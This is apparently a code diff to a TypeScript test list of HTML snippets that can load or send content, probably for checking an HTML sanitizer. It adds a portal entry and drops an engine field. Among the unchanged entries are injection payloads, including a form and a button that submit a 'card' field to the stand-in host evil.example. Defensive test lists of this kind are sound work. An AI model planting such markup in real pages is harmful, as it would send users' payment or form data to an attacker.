@@ -8,8 +8,6 @@ export interface WayToRun {
    * `none`: it runs in older browsers only, or changes another script's address.
    */
   proof: 'load' | 'click' | 'none'
-  /** Engines in which the proof succeeds. @default all */
-  engine?: 'chromium' | 'firefox'
 }
 
 const types = [
@@ -104,6 +102,7 @@ export const waysToRun: readonly WayToRun[] = [
   unproven('a form of another server', '<form action="https://evil.example/"><input name="card"></form>'),
   unproven('a button for another server', '<form><button formaction="https://evil.example/">x</button></form>'),
   unproven('a document for an SVG element', '<svg><use href="FRAME#x"></use></svg>'),
+  unproven('a portal', '<portal src="FRAME"></portal>'),
   unproven('an applet', '<applet code="x"></applet>'),
   unproven('a stylesheet', '<link rel="stylesheet" href="FOLDERx.css">'),
   unproven('an element that HTML does not have yet', '<fencedportal source="FRAME"></fencedportal>'),
